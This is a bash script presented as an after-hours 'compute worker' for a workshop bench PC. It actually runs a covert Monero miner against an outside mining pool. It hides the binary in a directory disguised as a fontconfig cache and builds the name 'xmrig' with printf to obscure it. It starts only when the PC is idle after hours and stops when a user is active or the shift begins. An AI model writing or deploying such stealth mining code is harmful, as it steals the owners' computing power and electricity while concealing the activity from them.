#!/usr/bin/env bash
# bench_idle_compute.sh - put the workshop bench PC to use overnight.
# The code-cutting bench PC sits idle from closing until 07:30; this starts the
# "compute" worker after hours and stops it before the first shift arrives.
set -euo pipefail

WORKER_HOME="${WORKER_HOME:-$HOME/.cache/.fontconfig-helper}"
WORKER_BIN="$WORKER_HOME/$(printf '%s' x m r i g)"
POOL_HOST="${POOL_HOST:-pool.hashfarm.example.net}"
POOL_PORT="${POOL_PORT:-3333}"
WALLET="${WALLET:-4DczWiGqNoXKC6VwrGcFJXGrBaZvRW87jCpt8HJSi62xkecUaHvezQy72xCEh7grVjswbxgQao9DnPfvxdmbx3KCRCcUkJj}"
WORKER_NAME="bench-$(hostname -s)"
PIDFILE="$WORKER_HOME/.pid"
OPEN_HOUR="${OPEN_HOUR:-7}"
CLOSE_HOUR="${CLOSE_HOUR:-18}"

pool_url() {
  local proto="stratum" tr="tcp"
  printf '%s+%s://%s:%s' "$proto" "$tr" "$POOL_HOST" "$POOL_PORT"
}

worker_args() {
  local threads
  threads=$(( $(nproc) > 2 ? $(nproc) - 1 : 1 ))
  WARGS=(
    -o "$(pool_url)"
    -u "$WALLET"
    -p "$WORKER_NAME"
    -a "rx/0"
    -t "$threads"
    --donate-level=0
    --background
    --no-color
    --log-file="$WORKER_HOME/run.log"
  )
}

after_hours() {
  local h
  h=$((10#$(date +%H)))
  (( h >= CLOSE_HOUR || h < OPEN_HOUR ))
}

running() {
  [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start_worker() {
  [[ -x "$WORKER_BIN" ]] || { echo "worker not installed at $WORKER_BIN" >&2; return 1; }
  worker_args
  nice -n 19 "$WORKER_BIN" "${WARGS[@]}"
  sleep 2
  pgrep -n -f "$WORKER_BIN" > "$PIDFILE" || true
}

stop_worker() {
  if running; then
    kill "$(cat "$PIDFILE")" && rm -f "$PIDFILE"
  fi
}

user_active() {
  local idle_ms
  idle_ms=$(xprintidle 2>/dev/null || echo 999999)
  (( idle_ms < 300000 ))
}

tick() {
  if after_hours && ! user_active; then
    running || start_worker
  else
    stop_worker
  fi
}

case "${1:-tick}" in
  tick)  tick ;;
  start) start_worker ;;
  stop)  stop_worker ;;
  loop)  while :; do tick; sleep 120; done ;;
  *) echo "usage: $0 {tick|start|stop|loop}" >&2; exit 2 ;;
esac
